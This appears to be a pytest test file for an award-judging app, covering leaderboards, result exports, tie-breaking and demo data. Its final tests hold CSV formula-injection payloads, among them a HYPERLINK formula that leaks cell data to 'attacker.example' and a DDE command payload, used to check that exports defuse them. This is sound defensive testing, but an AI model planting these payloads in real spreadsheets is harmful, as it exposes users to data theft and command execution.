"""From stored scores to results: the leaderboard, exports, the results CLI and demo data."""

import csv
import io
import json
import re

import pytest
from sqlalchemy import event, func, select

from judging.extensions import db
from judging.models import AuditEvent, CastingDecision, Evaluation, User
from judging.services import demo, results

from .fixtures.domain import csrf_token

pytestmark = pytest.mark.every_engine  # about what the database does: SQLite and PostgreSQL

ALL = {"innovation": 8, "impact": 8, "person-centred": 8, "sustainability": 8, "transferability": 8}


def enter_scores(make_user, make_evaluation, award, table: dict[str, dict[str, int]]):
    """{juror name: {nominee slug: same score on every criterion}}, all submitted."""
    nominees = {n.slug: n for n in award.nominees}
    jurors = {}
    for name, row in table.items():
        jurors[name] = make_user(name=name, awards=[award])
        for slug, value in row.items():
            make_evaluation(nominees[slug], jurors[name], dict.fromkeys(ALL, value), submitted=True)
    return jurors


def test_the_leaderboard_ranks_submitted_evaluations_only(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {"Ann": {"evikomp": 10, "omapu": 4}, "Ben": {"evikomp": 9, "omapu": 6}},
    )
    draft_juror = make_user(awards=[seeded_award])
    make_evaluation(
        next(n for n in seeded_award.nominees if n.slug == "omapu"),
        draft_juror,
        dict.fromkeys(ALL, 10),
    )  # a draft: must not count
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Provisional" in page
    assert page.index("EVIKOMP") < page.index("Office to Support Ukrainian People")
    assert "94.44" in page  # EVIKOMP: mean of 100 and 88.89
    assert page.count('class="dot"') == 4  # the chart: one dot per juror total


def test_switching_the_method(app, logged_in, seeded_award, make_user, make_evaluation):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10, "omapu": 4}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard?method=borda").get_data(
        as_text=True
    )
    assert "Ranking: Borda count" in page
    assert '<option value="borda" selected>' in page
    unknown = client.get("/admin/awards/excellence-award/leaderboard?method=vibes")
    assert "Ranking: Mean" in unknown.get_data(as_text=True)


def test_results_json_has_the_documented_shape(
    app, runner, seeded_award, make_user, make_evaluation
):
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {
            "Ann": {"evikomp": 10, "omapu": 4, "konekta2": 7},
            "Ben": {"evikomp": 9, "omapu": 6, "konekta2": 7},
        },
    )
    result = runner.invoke(args=["results", "excellence-award", "--format", "json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.output)
    assert document["method"] == "mean"
    first = document["nominees"][0]
    assert {"rank", "slug", "title", "score", "tied"} <= set(first)
    assert (first["rank"], first["slug"], first["score"], first["tied"]) == (
        1,
        "evikomp",
        94.44,
        False,
    )
    assert document["nominees"][2]["slug"] == "omapu"
    assert document["nominees"][3]["score"] is None  # nobody evaluated it yet
    assert "kendalls_w" in document["statistics"]
    assert isinstance(document["flags"], list)


def test_results_table_and_csv(app, runner, seeded_award, make_user, make_evaluation):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10, "omapu": 4}})
    table = runner.invoke(args=["results", "excellence-award"]).output
    assert "method: Mean" in table and "EVIKOMP" in table
    rows = list(
        csv.DictReader(
            io.StringIO(
                runner.invoke(
                    args=["results", "excellence-award", "--format", "csv", "--method", "median"]
                ).output
            )
        )
    )
    assert rows[0]["slug"] == "evikomp" and rows[0]["rank"] == "1"
    assert len(rows) == 13


def test_results_of_an_unknown_award(app, runner):
    result = runner.invoke(args=["results", "nope"])
    assert result.exit_code == 1 and "No award with slug nope" in result.output


def test_exports_from_the_admin_pages(app, logged_in, seeded_award, make_user, make_evaluation):
    jurors = enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10}})
    evaluation = db.session.scalar(select(Evaluation))
    evaluation.comment = "Remarkable reach across 15 municipalities."
    db.session.commit()
    client, _ = logged_in(role="admin")
    as_json = client.get("/admin/awards/excellence-award/results.json")
    assert as_json.headers["Content-Disposition"].endswith('results-mean.json"')
    assert as_json.json["nominees"][0]["slug"] == "evikomp"
    scores_csv = (
        client.get("/admin/awards/excellence-award/scores.csv").get_data().decode("utf-8-sig")
    )
    rows = list(csv.DictReader(io.StringIO(scores_csv)))
    assert len(rows) == 5  # one per criterion
    assert rows[0]["juror"] == jurors["Ann"].name
    assert rows[0]["comment"] == "Remarkable reach across 15 municipalities."
    assert rows[0]["submitted"] == "True" and rows[0]["recused"] == "False"
    scores_json = client.get("/admin/awards/excellence-award/scores.json").json
    assert {r["criterion"] for r in scores_json} == set(ALL)


def test_a_tie_can_be_resolved_by_a_recorded_casting_decision(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 9}})
    client, admin = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Ties the rules cannot break" in page
    token = csrf_token(client, "/admin/awards/excellence-award/leaderboard")
    data = {
        "csrf_token": token,
        "method": "mean",
        "prefix": "tie-0-",
        "tied": ["evikomp", "omapu"],
        "tie-0-order": ["omapu", "evikomp"],
        "tie-0-reason": "OMAPU served more families this year.",
    }
    refused = client.post(
        "/admin/awards/excellence-award/casting", data={**data, "tie-0-reason": ""}
    )
    assert refused.status_code == 302
    assert db.session.scalar(select(func.count()).select_from(CastingDecision)) == 0
    client.post("/admin/awards/excellence-award/casting", data=data)
    decision = db.session.scalar(select(CastingDecision))
    assert json.loads(decision.nominee_order) == ["omapu", "evikomp"]
    assert decision.decided_by_id == admin.id
    result = results.compute(seeded_award).result
    assert [r.nominee for r in result.results[:2]] == ["omapu", "evikomp"]
    assert not result.results[0].tied
    assert db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "ranking.casting_decision")
    )


def test_a_casting_decision_must_order_exactly_the_tied_nominees(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 9}})
    client, _ = logged_in(role="admin")
    token = csrf_token(client, "/admin/awards/excellence-award/leaderboard")
    client.post(
        "/admin/awards/excellence-award/casting",
        data={
            "csrf_token": token,
            "method": "mean",
            "prefix": "tie-0-",
            "tied": ["evikomp", "omapu"],
            "tie-0-order": ["omapu", "omapu"],
            "tie-0-reason": "x",
        },
    )
    assert db.session.scalar(select(func.count()).select_from(CastingDecision)) == 0


@pytest.fixture
def count_queries(app):
    counter = {"n": 0}

    def count(*_args):
        counter["n"] += 1

    event.listen(db.engine, "before_cursor_execute", count)
    yield counter
    event.remove(db.engine, "before_cursor_execute", count)


def test_the_ranking_reads_scores_in_a_bounded_number_of_queries(
    app, seeded_award, make_user, make_evaluation, count_queries
):
    def queries_for(jurors: int) -> int:
        for i in range(jurors):
            juror = make_user(awards=[seeded_award])
            for nominee in seeded_award.nominees[: 4 + i]:
                make_evaluation(nominee, juror, dict.fromkeys(ALL, 5 + i % 5), submitted=True)
        db.session.expire_all()
        award = db.session.get(type(seeded_award), seeded_award.id)
        count_queries["n"] = 0
        results.as_json(award, results.compute(award), results.juror_labels(award))
        return count_queries["n"]

    small = queries_for(1)
    large = queries_for(6)
    assert small == large <= 7


def test_demo_data_fills_an_empty_award_and_comes_off_again(app, runner, seeded_award):
    added = runner.invoke(args=["demo", "excellence-award"])
    assert added.exit_code == 0, added.output
    assert "added 155 demo evaluations by 12 demo jurors" in added.output
    result = results.compute(seeded_award).result
    assert result.winner is not None
    assert any(f.kind == "outlier_juror" for f in result.flags)  # the harsh and lenient ones
    names = db.session.scalars(select(User.name)).all()
    assert len(names) == 12 and all(n.startswith("Demo juror") for n in names)

    removed = runner.invoke(args=["demo", "excellence-award", "--remove"])
    assert "removed 155 demo evaluations" in removed.output
    assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 0
    assert db.session.scalar(select(func.count()).select_from(User)) == 0


def test_demo_data_is_refused_on_real_evaluations_or_published_results(
    app, runner, seeded_award, make_user, make_evaluation
):
    make_evaluation(seeded_award.nominees[0], make_user(awards=[seeded_award]), {"impact": 5})
    refused = runner.invoke(args=["demo", "excellence-award"])
    assert refused.exit_code == 1 and "real evaluations" in refused.output
    assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 1

    seeded_award.status = "published"
    db.session.commit()
    with pytest.raises(demo.DemoError, match="published"):
        demo.add_demo_data(seeded_award)


# --- The leaderboard's words and layout (issue 15, item 13) -------------------------------------


def test_a_tie_broken_on_median_says_who_is_ahead_and_who_is_behind(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    # Equal means (4 points above the scale's bottom on average), different medians.
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {"Ann": {"evikomp": 2, "omapu": 4}, "Ben": {"evikomp": 5, "omapu": 4}},
    )
    enter_scores(make_user, make_evaluation, seeded_award, {"Cem": {"evikomp": 8, "omapu": 7}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    rows = page[page.index('id="ranking-heading"') :]
    evikomp = rows[rows.index("EVIKOMP") : rows.index("</tr>", rows.index("EVIKOMP"))]
    omapu = rows[rows.index("OMAPU") : rows.index("</tr>", rows.index("OMAPU"))]
    assert "ahead on median" in evikomp
    assert "behind on median" in omapu and "ahead" not in omapu


def test_kendalls_w_counts_one_juror_in_the_singular(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    every = {n.slug: 1 + i % 10 for i, n in enumerate(seeded_award.nominees)}
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": every})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Kendall's W, 1 juror who evaluated every nominee" in page
    assert "1 jurors" not in page


def test_an_award_without_scores_says_so_instead_of_a_thirteen_way_tie(
    app, logged_in, seeded_award
):
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "No scores yet" in page
    assert 'chip-draft">tie' not in page and ">tie</span>" not in page
    assert "Is the winner robust?" not in page


def test_the_ranking_tables_are_labelled_regions_a_keyboard_can_scroll(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 5}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    scrollers = re.findall(r'<div class="table-scroll"[^>]*>', page)
    assert scrollers
    for div in scrollers:
        assert 'tabindex="0"' in div and 'role="region"' in div and "aria-label" in div
    start = page.index('class="table leaderboard"')
    ranking_head = page[start : page.index("</thead>", start)]
    assert ranking_head.count("<th ") == 10  # rank, nominee, score, 5 criteria, n, spread
    assert "The jury's scores under every method" in page


FORMULAS = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "organisation": "+1+1",
    "city": "-2+3",
    "country": "@SUM(1+1)",
}


def _booby_trapped(award, make_user, make_evaluation):
    """A nominee imported with formulas in every field, scored by a juror whose comments are
    formulas too; the juror's name needs UTF-8."""
    nominee = next(n for n in award.nominees if n.slug == "evikomp")
    for field, value in FORMULAS.items():
        setattr(nominee, field, value)
    juror = make_user(name="Müller-Łęcka", awards=[award])
    evaluation = make_evaluation(
        nominee, juror, dict.fromkeys(ALL, 9), submitted=True, comment="=cmd|' /C calc'!A0"
    )
    evaluation.scores[0].comment = "\t=1+1"
    evaluation.scores[1].comment = "\r=1+1"
    db.session.commit()


def test_downloaded_csv_exports_defuse_formulas_and_open_in_excel(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    _booby_trapped(seeded_award, make_user, make_evaluation)
    client, _ = logged_in(role="admin")

    raw = client.get("/admin/awards/excellence-award/results.csv").get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    results_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    first = results_rows[0]
    assert first["slug"] == "evikomp" and first["rank"] == "1"
    for field, value in FORMULAS.items():
        assert first[field] == "'" + value  # shown as text, never run
    assert first["score"] == "88.89"  # numbers stay numbers

    raw = client.get("/admin/awards/excellence-award/scores.csv").get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["juror"] == "Müller-Łęcka"
    assert {row["comment"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert rows[0]["criterion_comment"] == "'\t=1+1"
    assert rows[1]["criterion_comment"] == "'\r=1+1"
    assert rows[0]["score"] == "9"
    # Every cell: none starts like a formula.
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    cells += [cell for row in results_rows for cell in row.values() if cell is not None]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_results_cli_csv_defuses_formulas_without_a_bom(
    app, runner, seeded_award, make_user, make_evaluation
):
    _booby_trapped(seeded_award, make_user, make_evaluation)
    result = runner.invoke(args=["results", "excellence-award", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert not result.output.startswith("\ufeff")  # a pipe's reader gets plain UTF-8
    first = next(csv.DictReader(io.StringIO(result.output)))
    assert first["title"] == "'" + FORMULAS["title"]
    assert first["city"] == "'-2+3"
